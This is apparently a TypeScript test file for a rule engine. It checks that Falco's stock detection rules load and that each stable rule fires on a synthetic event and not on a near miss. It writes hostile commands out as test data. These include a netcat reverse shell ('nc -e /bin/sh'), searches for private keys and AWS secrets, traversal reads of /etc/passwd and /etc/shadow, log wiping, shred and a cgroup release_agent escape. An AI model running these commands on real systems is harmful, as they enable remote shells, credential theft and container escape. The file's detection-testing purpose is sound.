// Falco's own rule files, unmodified: they load, their rules can be evaluated on records, and each stable rule fires for a record that should
// make it and not for the nearest other one.
import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { packageRoot } from '../../../../infra/process/package-root.js'
import { createPlainEvaluator } from '../../../../processors/rule-engine/evaluate/plain-evaluator.js'
import type { ContainerKnowledge, RuleRecord } from '../../../../processors/rule-engine/fields/rule-event.js'
import { loadRuleFiles } from '../../../../processors/rule-engine/load/rule-files.js'
import type { RuleSet } from '../../../../processors/rule-engine/rule-set/rule-set.js'
import type { Ancestor, FileEvent, KernelEvent, NetworkEvent, Process } from '../../../../schemas/generated/types.js'
import { sampleKernelEvent } from '../../../support/records/sample-kernel-event.js'
import { sampleNetworkEvent } from '../../../support/records/sample-network-event.js'
import {
  sampleContainerFacts,
  sampleFileEvent,
  sampleOrigin,
  sampleProcess,
  sampleProcessEvent,
} from '../../../support/records/sample-records.js'
import { skipWithoutCorpora } from '../../../support/runner/skip-because.js'

const CORPUS = join(process.env['EUNOMIA_SHARED'] ?? resolve(packageRoot(), '../shared'), 'corpora/falco')
const ID = 'f'.repeat(64)
const HOST: ContainerKnowledge = { state: 'host' }
const CONTAINER: ContainerKnowledge = { state: 'known', containerId: ID, facts: sampleContainerFacts() }
const PRIVILEGED: ContainerKnowledge = { state: 'known', containerId: ID, facts: sampleContainerFacts({ isPrivileged: true }) }

const ancestors = (...names: string[]): Ancestor[] =>
  names.map((name, index) => ({ pid: 100 - index, startBootUs: 1, name, exe: name, exePath: null, exeFlags: 0, program: null }))

function exec(args: readonly string[], change: Partial<Process> = {}): RuleRecord {
  const name = (args[0] ?? '').slice((args[0] ?? '').lastIndexOf('/') + 1)
  return {
    topic: 'process',
    record: sampleProcessEvent({
      process: sampleProcess({ name, args, exePath: `/usr/bin/${name}`, ancestors: ancestors('bash'), ...change }),
    }),
  }
}

function open(
  path: string,
  how: 'read' | 'write',
  change: Partial<Process> = {},
  more: Partial<ReturnType<typeof sampleFileEvent>> = {},
): RuleRecord {
  const flags = how === 'read' ? 0 : 0o1 | 0o100 | 0o1000
  const record = sampleFileEvent({
    path,
    pathArgument: path,
    isRead: how === 'read',
    isWrite: how === 'write',
    flags,
    process: sampleProcess({ ancestors: ancestors('bash'), ...change }),
    ...more,
  })
  return { topic: 'file', record }
}

const network = (change: Partial<NetworkEvent>): RuleRecord => ({ topic: 'network', record: sampleNetworkEvent(change) })
const kernel = (change: Partial<KernelEvent>): RuleRecord => ({ topic: 'kernel', record: sampleKernelEvent(change) })
const onFile = (change: Partial<FileEvent>): RuleRecord => ({
  topic: 'file',
  record: sampleFileEvent({ flags: 0, isRead: false, ...change }),
})

/** A copy of a descriptor onto a standard stream. */
const copied = (change: Partial<KernelEvent>): RuleRecord =>
  kernel({ type: 'dup', syscall: 'dup2', result: 1, fd: 7, newFd: 1, request: null, targetPid: null, targetName: null, ...change })
const SOCKET_COPY: Partial<KernelEvent> = {
  descriptorType: 'ipv4',
  family: 2,
  protocol: 6,
  isServer: false,
  remoteAddress: '203.0.113.7',
  remotePort: 4444,
  localAddress: '172.17.0.2',
  localPort: 40_312,
}
const moduleLoad = (capEffective: number): RuleRecord =>
  kernel({
    type: 'module_load',
    syscall: 'finit_module',
    fd: 3,
    request: null,
    path: '/tmp/x.ko',
    process: sampleProcess({ name: 'insmod', capEffective }),
  })
const ssh = sampleProcess({ name: 'ssh', args: ['/usr/bin/ssh', '-p', '443', 'x'] })

const CAP_SYS_MODULE = 2 ** 16
const CAP_SYS_ADMIN = 2 ** 21
const AF_PACKET = 17
const AF_NETLINK = 16
const PTRACE_TRACEME = 0
const PTRACE_ATTACH = 16
const PTRACE_CONT = 7

/** The stable rules, an event that each must see, and the nearest that it must not. */
const STABLE: readonly (readonly [rule: string, container: ContainerKnowledge, fires: RuleRecord, silent: RuleRecord])[] = [
  [
    'Directory traversal monitored file read',
    HOST,
    open('/etc/passwd', 'read', { ancestors: ancestors('nginx') }, { pathArgument: '/var/www/../../../etc/passwd' }),
    open('/etc/passwd', 'read', { ancestors: ancestors('nginx') }),
  ],
  [
    'Read sensitive file trusted after startup',
    HOST,
    open('/etc/shadow', 'read', { name: 'nginx', startBootUs: 1 }),
    open('/etc/shadow', 'read', { name: 'nginx', startBootUs: sampleOrigin().bootTimeUs - 1_000_000 }),
  ],
  ['Read sensitive file untrusted', HOST, open('/etc/shadow', 'read'), open('/etc/shadow', 'read', { name: 'sshd' })],
  [
    'Run shell untrusted',
    HOST,
    exec(['sh', '-c', 'id'], { ancestors: ancestors('httpd', 'systemd') }),
    exec(['sh', '-c', 'id'], { ancestors: ancestors('bash', 'sshd') }),
  ],
  [
    'System user interactive',
    HOST,
    exec(['ls'], { user: 'www-data', uid: 33, euid: 33, ancestors: ancestors('bash', 'sshd') }),
    exec(['ls'], { ancestors: ancestors('bash', 'sshd') }),
  ],
  [
    'Terminal shell in container',
    CONTAINER,
    exec(['bash'], { tty: 34816, ancestors: ancestors('runc') }),
    exec(['bash'], { tty: null, ancestors: ancestors('runc') }),
  ],
  ['Netcat Remote Code Execution in Container', CONTAINER, exec(['nc', '-e', '/bin/sh', '10.0.0.1']), exec(['nc', '-z', '10.0.0.1'])],
  ['Search Private Keys or Passwords', HOST, exec(['find', '/', '-name', 'id_rsa']), exec(['find', '/', '-name', 'x'])],
  ['Clear Log Activities', CONTAINER, open('/var/log/access.log', 'write'), open('/var/log/access.log', 'read')],
  ['Remove Bulk Data from Disk', HOST, exec(['shred', '-u', 'x']), exec(['rm', 'x'])],
  ['Debugfs Launched in Privileged Container', PRIVILEGED, exec(['debugfs']), exec(['ls'])],
  [
    'Detect release_agent File Container Escapes',
    CONTAINER,
    open('/sys/fs/cgroup/rdma/release_agent', 'write', { capEffective: CAP_SYS_ADMIN }),
    open('/sys/fs/cgroup/rdma/release_agent', 'write', { capEffective: 0 }),
  ],
  ['Find AWS Credentials', HOST, exec(['grep', '-r', 'aws_secret_access_key', '/']), exec(['grep', '-r', 'x', '/'])],
  ['Execution from /dev/shm', HOST, exec(['/dev/shm/x']), exec(['/opt/x'])],
  ['Drop and execute new binary in container', CONTAINER, exec(['x'], { isExeUpperLayer: true }), exec(['x'])],
  ['Fileless execution via memfd_create', HOST, exec(['x'], { isExeMemfd: true }), exec(['x'])],
  [
    'Contact K8S API Server From Container',
    CONTAINER,
    network({ remoteName: 'kubernetes.default.svc.cluster.local' }),
    network({ remoteName: 'kubernetes.default.svc.cluster.example' }),
  ],
  [
    'Create Symlink Over Sensitive Files',
    HOST,
    onFile({ type: 'symlink', syscall: 'symlinkat', result: 0, path: '/tmp/x', linkTarget: '/etc/shadow' }),
    onFile({ type: 'symlink', syscall: 'symlinkat', result: 0, path: '/etc/shadow', linkTarget: '/tmp/x' }),
  ],
  [
    'Create Hardlink Over Sensitive Files',
    HOST,
    onFile({ type: 'link', syscall: 'linkat', result: 0, path: '/etc/shadow', newPath: '/tmp/x' }),
    onFile({ type: 'link', syscall: 'linkat', result: 0, path: '/tmp/x', newPath: '/etc/shadow' }),
  ],
  [
    'Packet socket created in container',
    CONTAINER,
    network({ type: 'socket', syscall: 'socket', result: 5, family: AF_PACKET, socketType: 3, remoteAddress: null, localAddress: null }),
    network({ type: 'socket', syscall: 'socket', result: 5, family: AF_NETLINK, socketType: 3, remoteAddress: null, localAddress: null }),
  ],
  ['Redirect STDOUT/STDIN to Network Connection in Container', CONTAINER, copied(SOCKET_COPY), copied({ descriptorType: 'pipe' })],
  ['Linux Kernel Module Injection Detected', CONTAINER, moduleLoad(CAP_SYS_MODULE), moduleLoad(CAP_SYS_ADMIN)],
  ['PTRACE attached to process', HOST, kernel({ request: PTRACE_ATTACH }), kernel({ request: PTRACE_CONT })],
  ['PTRACE anti-debug attempt', HOST, kernel({ request: PTRACE_TRACEME }), kernel({ request: PTRACE_ATTACH })],
  [
    'Disallowed SSH Connection Non Standard Port',
    HOST,
    network({ process: ssh, remotePort: 443, result: -115, isConnected: false }),
    network({ process: ssh, remotePort: 22, result: -115, isConnected: false }),
  ],
]

describe('Falco rule files', function () {
  before(function () {
    if (!existsSync(CORPUS)) skipWithoutCorpora(this)
  })

  const FILES: readonly (readonly [file: string, rules: number])[] = [
    ['falco_rules.yaml', 25],
    ['falco-incubating_rules.yaml', 31],
    ['falco-sandbox_rules.yaml', 37],
    ['archive/falco-deprecated_rules.yaml', 4],
    ['archive/application_rules.yaml', 0],
  ]
  for (const [file, rules] of FILES) {
    it(`${file} loads unmodified with its ${String(rules)} rules`, () => {
      const result = loadRuleFiles([join(CORPUS, file)])
      assert.deepEqual(result.errors, [])
      assert.equal(result.ruleSet.rules.length, rules)
    })
  }

  let loaded: RuleSet | null = null
  const stable = (): RuleSet => (loaded ??= loadRuleFiles([join(CORPUS, 'falco_rules.yaml')]).ruleSet ?? assert.fail())

  it('every stable rule can be evaluated, and has an event below', () => {
    const set = stable()
    assert.deepEqual(set.waitingRules, [])
    assert.deepEqual(set.rules.map((rule) => rule.name).sort(), STABLE.map(([name]) => name).sort())
  })

  it('all 93 live rules can be evaluated on records of all kinds', () => {
    const sets = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map(
      (file) => loadRuleFiles([join(CORPUS, file)]).ruleSet,
    )
    const rules = sets.flatMap((set) => set?.rules ?? [])
    assert.equal(rules.length, 93)
    assert.deepEqual(
      rules.filter(({ unavailable }) => unavailable.length > 0).map(({ name, unavailable }) => `${name}: ${unavailable.join('; ')}`),
      [],
    )
  })

  for (const [rule, container, fires, silent] of STABLE) {
    it(`"${rule}" fires for its event and not for the nearest other one`, () => {
      const evaluator = createPlainEvaluator(stable(), { matching: 'all' })
      const names = (event: RuleRecord): string[] => evaluator.evaluate({ event, container }).matched.map((one) => one.name)
      assert.ok(names(fires).includes(rule), names(fires).join())
      assert.ok(!names(silent).includes(rule))
    })
  }
})
